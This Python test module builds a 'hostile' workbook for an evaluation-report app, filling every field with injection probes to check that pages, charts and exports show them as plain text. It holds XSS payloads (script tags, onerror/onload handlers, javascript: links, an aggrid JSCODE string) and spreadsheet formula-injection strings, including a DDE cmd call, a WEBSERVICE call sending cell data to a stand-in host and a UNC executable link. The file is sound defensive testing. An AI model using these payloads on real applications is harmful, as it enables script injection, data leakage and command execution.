"""A hostile workbook: the sample evaluation with its text replaced by markup, scripts, markdown, templates,
formulas and very long strings. Every page, table, chart and export must show such text literally.

    python -m tests.hostile OUT.xlsx        writes the workbook (it passes evalcore.workbook.read_workbook)

The replacement is done on the Evaluation read from the sample and written back with the project's own writer
(``evalcore.workbook.workbook_bytes``), so every cross-reference (unit keys, statuses, grades) stays consistent and
the result is a valid workbook in the template format.
"""
from __future__ import annotations

import dataclasses
import sys
from pathlib import Path

from evalcore.model import Evaluation, GradeBand
from evalcore.workbook import read_workbook, workbook_bytes
from sample_data import WORKBOOK

# What a successful injection would do: set window.__pwned (or open a dialog).
SCRIPT = "<script>window.__pwned=1</script>"
IMG = '<img src=x onerror="window.__pwned=1">'
SVG = "<svg onload=window.__pwned=1>"
ANCHOR = '<a href="javascript:window.__pwned=1">链接</a>'
IFRAME = '<iframe src="javascript:window.__pwned=1"></iframe>'
MD_LINK = "[点我](javascript:window.__pwned=1)"
MD_IMAGE = "![图](javascript:window.__pwned=1)"
BOLD = "**粗体**"
RED = ":red[红]"
ICON = ":material/home:"
EMOJI = ":smile:"
LATEX = "$x^2$"
ARROW = "a -> b"
URL = "https://evil.example/x"
FORMULA = "=1+1"
# Text that looks like the formulas the reader refuses in cells (issue 27): as text it is kept, and neutralised in
# every export.
DDE_TEXT = "=cmd|' /C calc'!A0"
WEBSERVICE_TEXT = '=WEBSERVICE("http://x.invalid/?"&A1)'
UNC_TEXT = '=HYPERLINK("file://\\\\host\\share\\a.exe","打开")'
TEMPLATE = "%{x}"
ENTITY = "&lt;b&gt;"
PLOTLY_HTML = "<b>加粗</b><br>换行"
STYLE = "<style>body{display:none}</style>"
JSCODE = "::JSCODE::function(){window.__pwned=1}::JSCODE::"  # streamlit-aggrid evaluates this in gridOptions
HEADING = "# 标题"
LIST = "1. 列表"

# 2,000 characters without a space: the layout must hold (wrap or clip, never a horizontal page scroll).
LONG = ("超长名称" + "ABCDEFGHIJ" * 200)[:2000]

# The text each field gets. Unit keys are referenced from other sheets, so they are replaced everywhere.
UNIT_KEYS = (SCRIPT, LONG, f"{BOLD} {RED} {TEMPLATE}")
UNIT_NAMES = (IMG, MD_LINK, FORMULA)
UNIT_NOTE = f"{ICON} {LATEX} {ARROW} {URL}"

TITLE = f"{BOLD}<b>标题</b> {MD_LINK} {TEMPLATE}"
EVALUATOR = f"{IMG}评价组 {ICON}"
REGION = f"{RED}市"
PROJECT = f"{LATEX}项目"
CONCLUSION = f"{SCRIPT}评价结论 {BOLD} {MD_LINK}\n{HEADING}\n{LIST} {ENTITY}"
SOURCE = f"{ANCHOR} {URL}"
ILLUSTRATIVE_NOTE = f"{SVG}示例说明 {EMOJI}"

PROBLEM_CATEGORIES = {1: f"{PLOTLY_HTML} {TEMPLATE} {RED}", 2: LONG, 3: f"{SCRIPT}类别", 4: MD_LINK}
PROBLEM_TEXTS = (SCRIPT, IMG, MD_LINK, BOLD, RED, LONG, FORMULA, TEMPLATE, ENTITY, PLOTLY_HTML, STYLE, JSCODE, ICON,
                 LATEX, ARROW, URL, SVG, IFRAME, ANCHOR)
RECOMMENDATION_CATEGORIES = {1: f"{IMG}建议", 2: f"{BOLD}{LONG}", 3: TEMPLATE}
RECOMMENDATION_TEXTS = (MD_LINK, SCRIPT, MD_IMAGE, LONG, FORMULA, TEMPLATE, ANCHOR, HEADING, EMOJI)
ACHIEVEMENT_AREAS = {1: MD_LINK, 2: f"{SCRIPT}成效", 3: LONG}
ACHIEVEMENT_TEXTS = (IMG, f"{BOLD}成效", LONG, LIST, f"{ENTITY} {URL}")
TASKS = (SCRIPT, MD_LINK, LONG, f"{IMG}整改", FORMULA, TEMPLATE, DDE_TEXT, WEBSERVICE_TEXT, UNC_TEXT)
NOTES = (f"{SCRIPT}\n{MD_LINK}", f"{BOLD}\n{HEADING}", FORMULA, LONG)
EVIDENCE = (MD_LINK, "javascript:window.__pwned=1", URL, IMG)
# 一级 A, B (radar, dimension bars); leaves with the largest deductions (the 指标扣分 chart) and others.
INDICATOR_NAMES = {"A": f"{PLOTLY_HTML}决策", "B": TEMPLATE, "C31": LONG, "D13": MD_LINK, "B22": SCRIPT,
                   "D11": f"{TEMPLATE}<i>经济</i>", "A11": MD_LINK, "A12": SCRIPT, "B11": LONG}
SCORE_NOTE = f"{IMG}{MD_LINK}"

# Renamed statuses and grade: configurable names reach badges, legends and chart labels.
STATUS_RENAMES = {"整改中": f"<i>整改中</i>{TEMPLATE}"}
GRADE_RENAMES = {"良": "**良**"}



def _cycle(values: tuple[str, ...], i: int) -> str:
    return values[i % len(values)]


def hostile_evaluation(ev: Evaluation | None = None) -> Evaluation:
    """The sample evaluation (or ``ev``) with every piece of text replaced by hostile text."""
    if ev is None:
        result = read_workbook(WORKBOOK)
        assert result.ok, result.errors
        ev = result.evaluation
    keys = {u.key: UNIT_KEYS[i % len(UNIT_KEYS)] for i, u in enumerate(ev.units)}

    def key(k: str | None) -> str | None:
        return keys.get(k, k) if k is not None else None

    def status(s: str) -> str:
        return STATUS_RENAMES.get(s, s)

    def grade(g: str | None) -> str | None:
        return GRADE_RENAMES.get(g, g) if g is not None else None

    m = ev.meta
    meta = dataclasses.replace(
        m, title=TITLE, evaluator=EVALUATOR, region=REGION, project=PROJECT, conclusion=CONCLUSION, source=SOURCE,
        illustrative_note=ILLUSTRATIVE_NOTE,
        statuses=tuple(status(s) for s in m.statuses), closed_statuses=tuple(status(s) for s in m.closed_statuses),
        grade_bands=tuple(GradeBand(grade(b.grade) or b.grade, b.lower) for b in m.grade_bands))
    units = tuple(dataclasses.replace(u, key=keys[u.key], name=UNIT_NAMES[i % len(UNIT_NAMES)],
                                      note=UNIT_NOTE if u.note else "")
                  for i, u in enumerate(ev.units))
    budget_lines = tuple(dataclasses.replace(b, unit=key(b.unit), project=f"{SCRIPT}{b.project}", note=FORMULA)
                         for b in ev.budget_lines)
    indicators = tuple(dataclasses.replace(x, name=INDICATOR_NAMES.get(x.id, x.name),
                                           note=SCORE_NOTE if x.id in INDICATOR_NAMES else x.note)
                       for x in ev.indicators)
    scores = tuple(dataclasses.replace(s, unit=key(s.unit), note=SCORE_NOTE if s.note else s.note)
                   for s in ev.scores)
    results = tuple(dataclasses.replace(r, unit=key(r.unit), stated_grade=grade(r.stated_grade)) for r in ev.results)
    achievements = tuple(dataclasses.replace(a, area=ACHIEVEMENT_AREAS.get(a.area_no, a.area),
                                             text=_cycle(ACHIEVEMENT_TEXTS, i))
                         for i, a in enumerate(ev.achievements))
    problems = tuple(dataclasses.replace(p, category=PROBLEM_CATEGORIES.get(p.category_no, p.category),
                                         text=_cycle(PROBLEM_TEXTS, i),
                                         unit=key(p.unit) if p.unit else UNIT_KEYS[i % len(UNIT_KEYS)])
                     for i, p in enumerate(ev.problems))
    recommendations = tuple(dataclasses.replace(r, category=RECOMMENDATION_CATEGORIES.get(r.category_no, r.category),
                                                text=_cycle(RECOMMENDATION_TEXTS, i))
                            for i, r in enumerate(ev.recommendations))
    rectification = tuple(dataclasses.replace(
        item, task=_cycle(TASKS, i), unit=key(item.unit), status=status(item.status), note=_cycle(NOTES, i),
        evidence=_cycle(EVIDENCE, i),
        history=tuple(dataclasses.replace(h, old_status=status(h.old_status), new_status=status(h.new_status),
                                          note=_cycle(NOTES, i + j), by=_cycle(UNIT_KEYS, j))
                      for j, h in enumerate(item.history)))
        for i, item in enumerate(ev.rectification))
    return dataclasses.replace(ev, meta=meta, units=units, budget_lines=budget_lines, indicators=indicators,
                               scores=scores, results=results, achievements=achievements, problems=problems,
                               recommendations=recommendations, rectification=rectification)


def hostile_workbook_bytes() -> bytes:
    return workbook_bytes(hostile_evaluation())


def write_hostile_workbook(path: str | Path) -> Path:
    path = Path(path)
    path.write_bytes(hostile_workbook_bytes())
    return path


# A value the validator refuses: the message table of 数据管理 shows it back to the person uploading.
INVALID_VALUE = f"{BOLD}{MD_LINK}{RED}{IMG}"


def write_invalid_hostile_workbook(path: str | Path) -> Path:
    """The hostile workbook with hostile text in a number column (预算执行 › 预算金额): it has errors."""
    import io

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(hostile_workbook_bytes()))
    ws = wb["预算执行"]
    header = [c.value for c in ws[1]]
    ws.cell(row=2, column=header.index("预算金额（万元）") + 1, value=INVALID_VALUE)
    path = Path(path)
    wb.save(path)
    return path


if __name__ == "__main__":
    out = write_hostile_workbook(sys.argv[1] if len(sys.argv) > 1 else "hostile.xlsx")
    result = read_workbook(out)
    print(out, "ok" if result.ok else "INVALID", len(result.errors), "errors", len(result.warnings), "warnings")
    for m in [*result.errors, *result.warnings][:20]:
        print(" ", m)
